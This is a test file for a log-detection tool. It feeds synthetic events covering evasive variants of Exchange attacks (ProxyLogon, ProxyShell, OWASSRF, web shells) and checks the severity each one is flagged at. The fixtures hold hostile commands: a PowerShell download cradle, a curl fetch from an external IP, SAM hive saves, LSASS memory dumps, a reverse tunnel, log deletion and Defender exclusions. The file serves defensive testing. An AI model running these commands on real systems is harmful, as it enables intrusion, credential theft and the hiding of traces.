import { describe, expect, it } from 'vitest'
import { builtIn, builtInRules } from '../../src/detections/compile/built-in.ts'
import { HIT_MEANINGS, type HitMeaning } from '../../src/detections/chains/chain.ts'
import { Hunter } from '../../src/detections/hunt/hunt.ts'
import { LEVELS, type Level } from '../../src/event/hit.ts'
import { fieldOf, rebuiltLine } from '../../src/formats/registry.ts'
import { blockOf } from './example-block.ts'

/**
 * Known attacks with the small changes that cost an attacker nothing, each as one event: the level at which it must
 * still be told, and what it must still say for a verdict.
 */
type Row = Record<string, string | readonly string[]>
type Trace = readonly [what: string, format: string, row: Row, least: Level, shows?: HitMeaning]

const proxy = (AnchorMailbox: string, HttpStatus: string, more: Row = {}): Row => ({
  AnchorMailbox,
  HttpStatus,
  UrlStem: '/ecp/y.js',
  RoutingHint: 'X-BEResource-Cookie',
  Method: 'POST',
  ClientIpAddress: '198.51.100.21',
  ...more,
})
const web = (row: Row): Row => ({
  's-port': '443',
  'cs-username': '-',
  'cs(User-Agent)': 'Mozilla/5.0',
  'c-ip': '203.0.113.9',
  'cs-method': 'POST',
  'sc-status': '200',
  ...row,
})
const W3WP = 'C:\\Windows\\System32\\inetsrv\\w3wp.exe'
const POOL = `${W3WP} -ap "MSExchangeOWAAppPool" -v "v4.0"`
const process = (row: Row): Row => ({
  Channel: 'Microsoft-Windows-Sysmon/Operational',
  EventID: '1',
  Image: 'C:\\Windows\\System32\\cmd.exe',
  CommandLine: 'cmd.exe',
  ParentImage: 'C:\\Windows\\System32\\cmd.exe',
  User: 'NT AUTHORITY\\SYSTEM',
  ...row,
})
const written = (TargetFilename: string, Image = 'System'): Row => ({
  Channel: 'Microsoft-Windows-Sysmon/Operational',
  EventID: '11',
  Image,
  TargetFilename,
})
const EXCHANGE = 'D:\\Exchange\\V15'
const json = '/Autodiscover/autodiscover.JSON'

const TRACES: readonly Trace[] = [
  [
    'forged anchor whose prefix begins like localhost',
    'exchange-http-proxy',
    proxy('ServerInfo~localhost]@ex01.corp.example:444/ecp/about.aspx?#', '200'),
    'high',
    'reach',
  ],
  [
    'the same, refused',
    'exchange-http-proxy',
    proxy('ServerInfo~localhosts]@ex01.corp.example:444/ecp/about.aspx?#', '500'),
    'high',
    'failure',
  ],
  [
    'forged anchor whose prefix names a catcher of calls',
    'exchange-http-proxy',
    proxy('ServerInfo~a.oast.b]@ex01.corp.example:444/ecp/about.aspx?#', '200'),
    'high',
    'reach',
  ],
  [
    'forged anchor that names Autodiscover behind the path',
    'exchange-http-proxy',
    proxy('ServerInfo~a]@ex01.corp.example:444/ecp/about.aspx?/autodiscover/#', '200'),
    'high',
    'reach',
  ],
  [
    'mail read by way of Autodiscover and back',
    'exchange-http-proxy',
    proxy('ServerInfo~a]@ex01.corp.example:444/autodiscover/../EWS/Exchange.asmx?#', '200'),
    'critical',
    'success',
  ],
  [
    'mail read with a doubled slash',
    'exchange-http-proxy',
    proxy('ServerInfo~a]@ex01.corp.example:444//ews/exchange.asmx?#', '200'),
    'critical',
    'success',
  ],
  [
    'mail read with an encoded letter',
    'exchange-http-proxy',
    proxy('ServerInfo~a]@ex01.corp.example:444/%65ws/exchange.asmx?#', '200'),
    'critical',
    'success',
  ],
  [
    'mail read with backslashes',
    'exchange-http-proxy',
    proxy('ServerInfo~a]@ex01.corp.example:444\\ews\\exchange.asmx?#', '200'),
    'critical',
    'success',
  ],
  [
    'session minted with an encoded dot',
    'exchange-http-proxy',
    proxy('ServerInfo~a]@ex01.corp.example:444/ecp/proxyLogon%2eecp?#', '241'),
    'critical',
    'success',
  ],
  [
    'session minted with backslashes',
    'exchange-http-proxy',
    proxy('ServerInfo~a]@ex01.corp.example:444\\ecp\\proxyLogon.ecp?#', '241'),
    'critical',
    'success',
  ],
  [
    'settings reset with an encoded letter',
    'exchange-http-proxy',
    proxy(
      'ServerInfo~a]@ex01.corp.example:444/ecp/DDI/DDIService.svc/%53etObject?schema=ResetOABVirtualDirectory#',
      '200',
    ),
    'critical',
    'success',
  ],
  [
    'settings of another virtual directory reset',
    'exchange-http-proxy',
    proxy(
      'ServerInfo~a]@ex01.corp.example:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOWAVirtualDirectory#',
      '200',
    ),
    'critical',
    'success',
  ],
  [
    'session minted behind a long static name',
    'iis-w3c',
    web({ 'cs-uri-stem': '/ecp/anynameatall123.axd', 'sc-status': '241' }),
    'high',
    'success',
  ],
  [
    'session minted in a folder',
    'iis-w3c',
    web({ 'cs-uri-stem': '/ecp/a/b.ico', 'sc-status': '241' }),
    'high',
    'success',
  ],
  [
    'post to a static file with a long name',
    'iis-w3c',
    web({ 'cs-uri-stem': '/ecp/resources.styles.woff', 'sc-status': '200' }),
    'high',
    'attempt',
  ],
  [
    'post to a static file in a folder, refused',
    'iis-w3c',
    web({ 'cs-uri-stem': '/ecp/a/b/c.png', 'sc-status': '500' }),
    'medium',
    'attempt',
  ],
  [
    'proxyLogon at the back end, doubled slash',
    'iis-w3c',
    web({
      'cs-uri-stem': '/ecp//proxyLogon.ecp',
      's-port': '444',
      'cs-username': 'CORP\\EX01$',
      'sc-status': '241',
    }),
    'high',
    'question',
  ],
  [
    'the back end by the name of its site',
    'iis-w3c',
    {
      's-sitename': 'W3SVC2',
      'cs-uri-stem': '/ecp/DDI/DDIService.svc/SetObject',
      'cs-uri-query': 'schema=ResetOABVirtualDirectory',
      'cs-username': 'CORP\\EX01$',
      'sc-status': '200',
      'cs-method': 'POST',
    },
    'critical',
    'success',
  ],
  [
    'reset with a referrer of its own',
    'exchange-ecp-server',
    {
      CMD: 'Remove-OABVirtualDirectory.Force=$true.Identity=g',
      URL: '/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory',
      REFERRER: 'http://a/',
    },
    'critical',
    'success',
  ],
  [
    'address emptied with a referrer of its own',
    'exchange-ecp-server',
    {
      CMD: "Set-OabVirtualDirectory.ExternalUrl=$null.Identity='g'",
      URL: '/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory',
      REFERRER: 'https://attacker.example/http',
    },
    'high',
    'reach',
  ],
  [
    'machine account of another server that is used by a tool',
    'iis-w3c',
    web({
      's-port': '444',
      's-ip': '192.0.2.10',
      'c-ip': '192.0.2.11',
      'cs-username': 'CORP\\EX02$',
      'cs(User-Agent)': 'ExchangeServicesClient/0.0.0.0',
      'cs-uri-stem': '/ecp/proxyLogon.ecp',
      'sc-status': '241',
    }),
    'high',
    'reach',
  ],
  [
    'script text without any known word',
    'exchange-ecp-server',
    {
      CMD: "Set-OabVirtualDirectory.ExternalUrl='http://mail.corp.example/#<object id=x>'.Identity='g'",
      URL: '/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory',
      REFERRER: '',
    },
    'critical',
    'success',
  ],
  [
    'script text included from elsewhere',
    'windows-evtx',
    {
      Channel: 'MSExchange Management',
      EventID: '1',
      Data: [
        'Set-OabVirtualDirectory',
        '-ExternalUrl "http://mail.corp.example/<!--#include file=a.txt-->" -Identity "OAB"',
      ],
    },
    'critical',
    'success',
  ],
  [
    'ProxyShell with another letter encoded',
    'iis-w3c',
    web({ 'cs-uri-stem': json, 'cs-uri-query': '@x.example/p%6fwershell/?X-Rps-CAT=VgEA&Email=a' }),
    'critical',
    'success',
  ],
  [
    'ProxyShell that also says what phones say',
    'iis-w3c',
    web({ 'cs-uri-stem': json, 'cs-uri-query': '@x.example/powershell/?X-Rps-CAT=VgEA&Protocol=ActiveSync' }),
    'critical',
    'success',
  ],
  [
    'ProxyShell with a doubled slash',
    'iis-w3c',
    web({ 'cs-uri-stem': json, 'cs-uri-query': '@x.example//powershell/?X-Rps-CAT=VgEA&Email=a' }),
    'critical',
    'success',
  ],
  [
    'ProxyShell by way of another folder',
    'iis-w3c',
    web({ 'cs-uri-stem': json, 'cs-uri-query': '@x.example/a/../powershell/?X-Rps-CAT=VgEA&Email=a' }),
    'critical',
    'success',
  ],
  [
    'ProxyShell with a port',
    'iis-w3c',
    web({ 'cs-uri-stem': json, 'cs-uri-query': 'a=b@x.example:443/PowerShell/?X-Rps-CAT=VgEA' }),
    'critical',
    'success',
  ],
  [
    'ProxyShell whose page is named with an encoded letter',
    'iis-w3c',
    web({
      'cs-uri-stem': json,
      'cs-uri-query': '@x.example/%6dapi/emsmdb?Email=autodiscover/autodiscover.json',
    }),
    'critical',
    'reach',
  ],
  [
    'ProxyShell, mail asked with an encoded letter',
    'iis-w3c',
    web({ 'cs-uri-stem': json, 'cs-uri-query': '@x.example/e%77s/exchange.asmx?a' }),
    'critical',
    'reach',
  ],
  [
    'ProxyShell, with the other service named behind',
    'iis-w3c',
    web({ 'cs-uri-stem': json, 'cs-uri-query': '@x.example/mapi/emsmdb?&z=/mapi/nspi' }),
    'critical',
    'reach',
  ],
  [
    'ProxyShell, names asked with an encoded slash',
    'exchange-http-proxy',
    {
      UrlStem: '/autodiscover/autodiscover.json',
      UrlQuery: '?@x.example%2Fmapi%2Fnspi%2F?&Email=autodiscover/autodiscover.json%3F@x.example',
      HttpStatus: '200',
      Method: 'POST',
    },
    'high',
    'reach',
  ],
  [
    'ProxyShell with the question mark in the path',
    'iis-w3c',
    web({
      'cs-uri-stem': '/autodiscover/autodiscover.json?@x.example/powershell/',
      'cs-uri-query': 'X-Rps-CAT=VgEA',
    }),
    'critical',
    'success',
  ],
  [
    'ProxyNotShell with encoded letters',
    'iis-w3c',
    web({
      'cs-uri-stem': json,
      'cs-uri-query': 'a@x.example/%50ower%53hell/&Email=autodiscover/autodiscover.json%3fa@x.example',
      'cs-username': 'CORP\\anna',
    }),
    'critical',
    'success',
  ],
  [
    'OWASSRF with other letters encoded',
    'iis-w3c',
    web({ 'cs-uri-stem': '/owa/a%40x.example/power%73hell', 'cs-username': 'CORP\\anna' }),
    'critical',
    'success',
  ],
  [
    'shell with something behind its name',
    'iis-w3c',
    web({ 'cs-uri-stem': '/aspnet_client/a.aspx/logon.js' }),
    'critical',
    'success',
  ],
  [
    'shell with a doubled slash',
    'iis-w3c',
    web({ 'cs-uri-stem': '/owa//auth//errorEE.aspx' }),
    'critical',
    'success',
  ],
  ['shell as a service', 'iis-w3c', web({ 'cs-uri-stem': '/owa/auth/outlook.svc' }), 'critical', 'success'],
  [
    'shell read by GET, as a remote object',
    'iis-w3c',
    web({ 'cs-uri-stem': '/aspnet_client/system_web/error.soap', 'cs-method': 'GET' }),
    'high',
    'question',
  ],
  [
    'shell seen by the proxy, with something behind its name',
    'exchange-http-proxy',
    { UrlStem: '/owa/auth/errorEE.aspx/x', HttpStatus: '200', Method: 'GET' },
    'high',
    'question',
  ],
  [
    'command in a parameter of any name',
    'iis-w3c',
    web({
      'cs-uri-stem': '/aspnet_client/a.aspx',
      'cs-uri-query': 'zz9=cmd.exe+/c+whoami',
      'cs-method': 'GET',
    }),
    'critical',
    'success',
  ],
  [
    'copy of the command program, by its original name',
    'windows-evtx',
    process({
      Image: 'C:\\inetpub\\wwwroot\\aspnet_client\\help.exe',
      OriginalFileName: 'Cmd.Exe',
      ParentImage: W3WP,
      ParentCommandLine: POOL,
    }),
    'critical',
    'success',
  ],
  [
    'program of its own started by the web server',
    'windows-evtx',
    process({
      Image: 'C:\\Windows\\Temp\\update.exe',
      CommandLine: 'C:\\Windows\\Temp\\update.exe',
      ParentImage: W3WP,
      ParentCommandLine: POOL,
    }),
    'high',
    'question',
  ],
  [
    'other tools of the system started by the web server',
    'windows-evtx',
    process({
      Image: 'C:\\Windows\\System32\\curl.exe',
      CommandLine: 'curl.exe -o a http://203.0.113.9/a',
      ParentImage: W3WP,
      ParentCommandLine: POOL,
    }),
    'critical',
    'success',
  ],
  [
    'hive saved into a web folder',
    'windows-evtx',
    process({ CommandLine: 'reg.exe save HKLM\\SAM C:\\inetpub\\wwwroot\\aspnet_client\\s.txt' }),
    'critical',
    'success',
  ],
  [
    'memory dumped with a copy of the library',
    'windows-evtx',
    process({ CommandLine: 'rundll32 C:\\ProgramData\\c.dll, #24 640 C:\\ProgramData\\a.txt full' }),
    'critical',
    'success',
  ],
  [
    'sign-in process opened by a program that is named like one of Windows, with other rights',
    'windows-evtx',
    {
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      EventID: '10',
      TargetImage: 'C:\\Windows\\System32\\lsass.exe',
      GrantedAccess: '0x1450',
      SourceImage: 'C:\\ProgramData\\svchost.exe',
      CallTrace: 'ntdll.dll',
    },
    'high',
    'question',
  ],
  [
    'page of the product written by a copy of an installer',
    'windows-evtx',
    written(`${EXCHANGE}\\FrontEnd\\HttpProxy\\owa\\auth\\logon.aspx`, 'C:\\Windows\\Temp\\msiexec.exe'),
    'critical',
    'question',
  ],
  [
    'archive in another folder, with the logs named too',
    'windows-evtx',
    process({ CommandLine: 'rar a C:\\PerfLogs\\a.rar D:\\mail C:\\inetpub\\logs' }),
    'high',
    'question',
  ],
  [
    'folder of logs deleted, with an age named behind',
    'windows-evtx',
    process({
      CommandLine:
        'powershell "rm D:\\Exchange\\V15\\Logging -Recurse; $_.LastWriteTime -lt 1; (Get-Date).AddDays(-30)"',
    }),
    'high',
    'hint',
  ],
  [
    'exclusion of the folder of web shells',
    'windows-evtx',
    {
      Channel: 'Microsoft-Windows-Windows Defender/Operational',
      EventID: '5007',
      'New Value': `HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\${EXCHANGE}\\FrontEnd\\HttpProxy\\owa\\auth = 0x0`,
    },
    'high',
    'hint',
  ],
  [
    'module named like one of Windows in another folder of Windows',
    'iis-config',
    { Element: 'globalModule', Name: 'HttpCacheModule', Image: '%windir%\\System32\\cachhttp.dll' },
    'high',
    'question',
  ],
  [
    'renamed PowerShell that fetches',
    'windows-evtx',
    process({
      Image: 'C:\\ProgramData\\u.exe',
      OriginalFileName: 'PowerShell.EXE',
      CommandLine: "u.exe IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
    }),
    'high',
    'hint',
  ],
  [
    'renamed tunnel',
    'windows-evtx',
    process({ Image: 'C:\\ProgramData\\u.exe', CommandLine: 'u.exe client 198.51.100.5:443 R:socks' }),
    'high',
    'question',
  ],
  [
    'hive saved with quotes',
    'windows-evtx',
    process({ Image: 'C:\\Windows\\System32\\reg.exe', CommandLine: 'reg  save "HKLM\\SAM" C:\\a' }),
    'critical',
    'question',
  ],
  [
    'hive saved by another program that is the same',
    'windows-evtx',
    process({ Image: 'C:\\a.exe', OriginalFileName: 'reg.exe', CommandLine: 'a save hklm\\security b' }),
    'critical',
    'question',
  ],
  [
    'memory dumped by number',
    'windows-evtx',
    process({
      Image: 'C:\\Windows\\System32\\rundll32.exe',
      CommandLine: 'rundll32 c:\\windows\\system32\\comsvcs.dll,#65560 624 c:\\a.bin full',
    }),
    'critical',
    'success',
  ],
  [
    'memory dumped by another tool of the system',
    'windows-evtx',
    process({
      Image: 'C:\\Windows\\System32\\rdrleakdiag.exe',
      CommandLine: 'rdrleakdiag.exe /p 624 /o C:\\a /fullmemdmp /wait 1',
    }),
    'critical',
    'question',
  ],
  [
    'memory dumped with the other dash',
    'windows-evtx',
    process({
      Image: 'C:\\a\\p.exe',
      CommandLine: 'p.exe /accepteula /ma lsass.exe a',
    }),
    'critical',
    'question',
  ],
  [
    'script of another kind written to the web',
    'windows-evtx',
    written(`${EXCHANGE}\\FrontEnd\\HttpProxy\\owa\\auth\\x.svc`),
    'critical',
    'question',
  ],
  [
    'script written to the web on another drive',
    'windows-evtx',
    written('E:\\inetpub\\wwwroot\\aspnet_client\\x.soap', W3WP),
    'critical',
    'question',
  ],
  [
    'script of another kind over the loopback share',
    'windows-evtx',
    {
      Channel: 'Security',
      EventID: '5145',
      IpAddress: '::1',
      SubjectUserName: 'EX01$',
      ShareName: '\\\\*\\D$',
      RelativeTargetName: 'Exchange\\V15\\FrontEnd\\HttpProxy\\ecp\\auth\\a.svc',
      AccessMask: '0x2',
    },
    'critical',
    'success',
  ],
  [
    'export as a script of another kind',
    'exchange-cmdlet',
    {
      Cmdlet: 'New-MailboxExportRequest',
      Parameters: '-Mailbox "a" -FilePath "\\\\ex01\\c$\\inetpub\\wwwroot\\aspnet_client\\a.soap"',
    },
    'critical',
    'success',
  ],
  [
    'export into a web folder, for fetching',
    'exchange-cmdlet',
    {
      Cmdlet: 'New-MailboxExportRequest',
      Parameters: '-Mailbox "a" -FilePath "\\\\ex01\\c$\\inetpub\\wwwroot\\aspnet_client\\a.txt"',
    },
    'high',
  ],
  [
    'export to the own share by its long names',
    'exchange-cmdlet',
    {
      Cmdlet: 'New-MailboxExportRequest',
      Parameters: '-Mailbox "a" -FilePath "\\\\0:0:0:0:0:0:0:1\\a\\b.pst"',
    },
    'high',
  ],
  [
    'group of administrators by its identifier, in any language',
    'windows-evtx',
    {
      Channel: 'Security',
      EventID: '4732',
      TargetUserName: 'Administradores',
      TargetSid: 'S-1-5-32-544',
      MemberSid: 'S-1-5-21-1-2-3-1105',
    },
    'medium',
  ],
  [
    'tools run by the system account of a French server',
    'windows-evtx',
    process({
      Image: 'C:\\Windows\\System32\\whoami.exe',
      CommandLine: 'whoami',
      User: 'AUTORITE NT\\Système',
      LogonId: '0x3e7',
    }),
    'medium',
  ],
  [
    'logs of the web server deleted by the web server',
    'windows-evtx',
    {
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      EventID: '23',
      Image: W3WP,
      TargetFilename: 'C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex210303.log',
    },
    'high',
  ],
  [
    'data packed by PowerShell',
    'windows-evtx',
    process({
      Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      CommandLine: 'powershell Compress-Archive C:\\a C:\\inetpub\\wwwroot\\aspnet_client\\a.zip',
    }),
    'high',
  ],
  [
    'log of events removed by another command',
    'windows-evtx',
    process({
      Image: 'C:\\Windows\\System32\\wbem\\wmic.exe',
      CommandLine: 'wmic nteventlog where filename="security" cl',
    }),
    'high',
  ],
  [
    'script written over the share by another address of the server',
    'windows-evtx',
    {
      Channel: 'Security',
      EventID: '5145',
      IpAddress: '192.0.2.10',
      SubjectUserName: 'EX01$',
      ShareName: '\\\\*\\C$',
      RelativeTargetName: 'inetpub\\wwwroot\\aspnet_client\\a.aspx',
      AccessMask: '0x2',
    },
    'critical',
    'success',
  ],
  [
    'script written by a program that is named like an installer',
    'windows-evtx',
    written(`${EXCHANGE}\\FrontEnd\\HttpProxy\\owa\\auth\\x.aspx`, 'C:\\Windows\\Temp\\Setup.exe'),
    'critical',
    'question',
  ],
  [
    'sign-in process opened by a program in a folder that is named like that of programs',
    'windows-evtx',
    {
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      EventID: '10',
      TargetImage: 'C:\\Windows\\System32\\lsass.exe',
      GrantedAccess: '0x1f1fff',
      SourceImage: 'C:\\Temp\\Program Files\\a.exe',
      CallTrace: 'ntdll.dll',
    },
    'high',
    'question',
  ],
  [
    'mail forwarded on Exchange 2010',
    'windows-evtx',
    {
      Channel: 'MSExchange Management',
      EventID: '1',
      Data: ['New-InboxRule', '{Name=a, ForwardTo=x@mail.example, Mailbox=anna}'],
    },
    'medium',
  ],
  [
    'shell at the back end in a folder of its own, doubled slash',
    'iis-w3c',
    web({ 's-port': '444', 's-ip': '192.0.2.10', 'cs-uri-stem': '/EWS//bin/a.ashx/x' }),
    'critical',
    'success',
  ],
  [
    'mail read by a tool that says more before its name',
    'exchange-ews',
    {
      AuthenticatedUser: 'svc@corp.example',
      ActAsUser: 'anna@corp.example',
      SoapAction: 'SyncFolderItems',
      UserAgent: 'exchangelib/5.4.0 (python-requests/2.32.3)',
      HttpStatus: '200',
    },
    'high',
    'question',
  ],
  [
    'audit narrowed instead of switched off',
    'exchange-admin-audit',
    { Operation: 'Set-AdminAuditLogConfig', Parameters: '-AdminAuditLogExcludedCmdlets "New-InboxRule"' },
    'high',
    'hint',
  ],
  [
    'request scanning switched off in an override of another name',
    'windows-evtx',
    {
      Channel: 'MSExchange Management',
      EventID: '1',
      Data: [
        'Set-SettingOverride',
        '-Identity "tuning" -Section "amsirequestbodyscanning" -Parameters ("EnabledOwa = $false")',
      ],
    },
    'medium',
    'hint',
  ],
  [
    'shell that answers with an error',
    'iis-w3c',
    web({ 'cs-uri-stem': '/aspnet_client/a.aspx', 'sc-status': '500' }),
    'medium',
  ],
  [
    'page of the product that was written over',
    'iis-w3c',
    web({ 'cs-uri-stem': '/owa/auth/RedirSuiteServiceProxy.aspx' }),
    'medium',
  ],
  [
    'large file of any name fetched from the folder of the sign-in pages',
    'iis-w3c',
    web({ 'cs-uri-stem': '/owa/auth/a', 'cs-method': 'GET', 'sc-bytes': '60000000' }),
    'high',
  ],
]

/** Attempts that failed or may have failed: no conclusion may rate them higher. */
const TRIED: readonly (readonly [what: string, format: string, row: Row])[] = [
  [
    'identifier of an account asked of a server that refuses',
    'exchange-http-proxy',
    proxy('ServerInfo~a]@ex01.corp.example:444/mapi/emsmdb/?#', '500'),
  ],
  [
    'session asked of a server that refuses',
    'exchange-http-proxy',
    proxy('ServerInfo~a]@ex01.corp.example:444/ecp/proxyLogon.ecp?#', '400'),
  ],
  [
    'public check that was answered',
    'exchange-http-proxy',
    proxy('ServerInfo~localhost/ecp/default.flt?', '200', { UrlStem: '/owa/auth/x.js', Method: 'GET' }),
  ],
  [
    'path in a back-end cookie, refused',
    'exchange-http-proxy',
    { BackEndCookie: 'Server~a]@ex01:444/ecp/x#~1942062522~2021-03-03T06:49:42', HttpStatus: '500' },
  ],
  [
    'ProxyShell with what phones ask',
    'iis-w3c',
    web({ 'cs-method': 'GET', 'cs-uri-stem': json, 'cs-uri-query': '@x.example/powershell/?&Protocol=a' }),
  ],
  [
    'ProxyShell, refused',
    'iis-w3c',
    web({ 'cs-uri-stem': json, 'cs-uri-query': '@x.example/powershell/?X-Rps-CAT=VgEA', 'sc-status': '404' }),
  ],
  ['OWASSRF, refused', 'iis-w3c', web({ 'cs-uri-stem': '/owa/a@x.example/powershell', 'sc-status': '401' })],
  [
    'forged page state without a sign-in',
    'iis-w3c',
    web({ 'cs-uri-stem': '/ecp/default.aspx', 'cs-uri-query': '__VIEWSTATE=/wEy', 'sc-status': '302' }),
  ],
  ['web shell looked for', 'iis-w3c', web({ 'cs-uri-stem': '/owa/auth/errorEE.aspx', 'sc-status': '302' })],
  [
    'command sent to a page that is not there',
    'iis-w3c',
    web({ 'cs-uri-stem': '/aspnet_client/a.aspx', 'cs-uri-query': 'cmd=whoami', 'sc-status': '404' }),
  ],
  ['post to a static file, refused', 'iis-w3c', web({ 'cs-uri-stem': '/ecp/y.js', 'sc-status': '500' })],
  [
    'Autodiscover asked by a tool at the back end, which failed',
    'iis-w3c',
    web({
      's-port': '444',
      'cs-username': 'CORP\\EX01$',
      'cs(User-Agent)': 'python-requests/2.32.3',
      'cs-uri-stem': '/autodiscover/autodiscover.xml',
      'sc-status': '500',
    }),
  ],
  [
    'export as a script that failed',
    'windows-evtx',
    {
      Channel: 'MSExchange Management',
      EventID: '6',
      Data: ['New-MailboxExportRequest', '-Mailbox "a" -FilePath "\\\\localhost\\c$\\a.aspx"'],
    },
  ],
]

const { rules } = builtInRules()
const rank = (level: Level): number => LEVELS.indexOf(level)
const said = new Map<string, Set<HitMeaning>>()
for (const { rule, shows } of builtIn().chains.flatMap(({ stages }) =>
  stages.flatMap((stage) => stage.rules),
))
  said.set(rule, (said.get(rule) ?? new Set()).add(shows))

const asked = rules.filter((rule) => rule.alerts)

function found(format: string, row: Row): { readonly name: string; readonly level: Level }[] {
  const block = blockOf(format, [row], format === 'windows-evtx' ? 'absent' : 'empty')
  const context = { sourceId: 0, hostOf: () => null, fieldOf, rawText: () => rebuiltLine(block, 0) }
  return new Hunter({ rules: asked }, fieldOf).hunt(block, context).map(({ rule }) => rule)
}

const shownBy = (hits: ReturnType<typeof found>): HitMeaning[] =>
  hits.flatMap(({ name }) => [...(said.get(name) ?? [])])

/** Whether something says as much for a verdict; what was only tried must be told as that. */
const atLeast =
  (shows: HitMeaning) =>
  (said: HitMeaning): boolean =>
    said === shows ||
    (['question', 'reach'].includes(shows) &&
      said !== 'follow' &&
      HIT_MEANINGS.indexOf(said) < HIT_MEANINGS.indexOf(shows))

describe('a small change hides nothing', () => {
  for (const [what, format, row, least, shows] of TRACES)
    it(what, () => {
      const hits = found(format, row)
      const told = hits.map(({ name, level }) => `${name} [${level}]`).join(', ')
      const best = Math.max(-1, ...hits.map(({ level }) => rank(level)))
      expect(best, `only ${told || 'nothing'}`).toBeGreaterThanOrEqual(rank(least))
      if (shows) expect(shownBy(hits).some(atLeast(shows)), `${told} shows less`).toBe(true)
    })
})

describe('an attempt is called no more, and is told', () => {
  for (const [what, format, row] of TRIED)
    it(what, () => {
      const hits = found(format, row)
      const told = hits.map(({ name }) => name).join(', ')
      expect(shownBy(hits).length, told).toBeGreaterThan(0)
      expect(
        shownBy(hits).filter((shows) => ['success', 'question', 'reach', 'follow'].includes(shows)),
        told,
      ).toEqual([])
    })
})
